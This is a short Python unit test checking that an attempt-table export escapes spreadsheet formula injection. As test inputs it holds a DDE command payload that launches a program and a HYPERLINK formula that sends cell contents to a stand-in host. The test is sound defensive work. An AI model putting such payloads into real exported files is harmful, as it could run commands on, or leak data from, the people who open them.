"""The table of attempts, as a spreadsheet reads it."""

from metaserver.base.lanes import StoredAttempt
from metaserver.base.records import ArticleId, Attempt, ServerName, Timings
from metaserver.base.states import Outcome
from metaserver.boards.frozen import ATTEMPT_COLUMNS, attempt_line


def test_no_cell_of_an_attempt_is_a_formula() -> None:
    timings = Timings(queue=0.0, total=1.5)
    attempt = Attempt(
        server=ServerName("blue-1"), article=ArticleId("-1+cmd|' /C calc'!A0"), number=2,
        started_at=0.0, outcome=Outcome.FAULT, message='=HYPERLINK("http://x/?"&A1)\t=1\n=2',
        timings=timings,
    )  # fmt: skip
    line = attempt_line(attempt.server, StoredAttempt(position=0, attempt=attempt, final=True))
    cells = dict(zip(ATTEMPT_COLUMNS, line.rstrip("\n").split("\t"), strict=True))
    assert cells["article"] == "'-1+cmd|' /C calc'!A0"
    assert cells["message"] == '\'=HYPERLINK("http://x/?"&A1) =1 =2'
    assert (cells["started_at"], cells["total"], cells["attempt"]) == (
        "1970-01-01T00:00:00.000+00:00", "1.500000", "2",
    )  # fmt: skip
